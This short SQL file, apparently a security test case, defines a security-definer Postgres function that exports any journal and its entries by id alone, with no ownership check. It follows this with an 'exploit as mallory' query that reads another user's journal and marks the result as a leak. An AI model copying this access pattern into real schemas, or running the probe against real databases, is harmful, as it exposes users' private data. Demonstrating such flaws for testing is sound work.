-- channel: function
-- object: public.export_journal
-- says: The export finds the journal by id alone and returns it as one JSON value.
create or replace function public.export_journal(p_journal uuid)
returns jsonb
language sql stable security definer
set search_path = ''
as $$
    select jsonb_build_object(
        'title', j.title,
        'entries', (
            select coalesce(jsonb_agg(e.body order by e.written_on), '[]')
            from public.entries as e
            where e.journal_id = j.id
        )
    )
    from public.journals as j
    where j.id = p_journal
$$;
-- exploit as mallory
select from public.export_journal('b5000000-0000-4000-8000-000000000001') as j
where j::text like '%Bob%';
-- leaks when rows
